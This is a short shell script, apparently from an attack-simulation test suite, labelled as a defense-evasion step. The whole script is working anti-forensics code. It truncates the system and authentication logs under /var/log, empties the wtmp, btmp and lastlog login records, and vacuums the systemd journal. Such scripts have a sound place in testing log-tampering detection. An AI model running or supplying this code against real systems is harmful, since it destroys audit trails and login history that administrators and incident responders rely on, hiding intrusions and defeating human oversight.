#!/bin/sh
# shrike-test-attack: defense-evasion: truncate logs under /var/log and clear login records
for f in /var/log/*.log /var/log/syslog /var/log/messages /var/log/secure /var/log/auth.log; do
  [ -f "$f" ] && : > "$f"
done
cat /dev/null > /var/log/wtmp; cat /dev/null > /var/log/btmp; cat /dev/null > /var/log/lastlog
journalctl --rotate >/dev/null 2>&1; journalctl --vacuum-time=1s >/dev/null 2>&1
